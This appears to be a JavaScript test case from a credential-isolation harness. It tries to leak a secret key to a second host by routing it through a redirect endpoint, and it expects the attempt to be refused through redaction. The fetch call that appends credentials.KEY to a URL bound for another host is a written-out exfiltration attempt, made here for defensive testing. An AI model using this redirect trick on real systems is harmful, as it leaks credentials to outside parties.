export const attempt = {
  tries: "to have a credential sent on to another host by a redirect",
  refusedBecause:
    "what an answer says of the value is taken out, and each redirect is a request of its own",
  seen: ["GET /to", "GET /sent-on"],
  ends: { says: "refused" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
};

export default async ({ witness, other }, { credentials }) => {
  const url = encodeURIComponent(`http://${other}/sent-on?key=`) + credentials.KEY;
  const answer = await fetch(`http://${witness}/to?url=${url}`);
  return (await answer.json()).url.includes("redacted") ? "refused" : "got through";
};
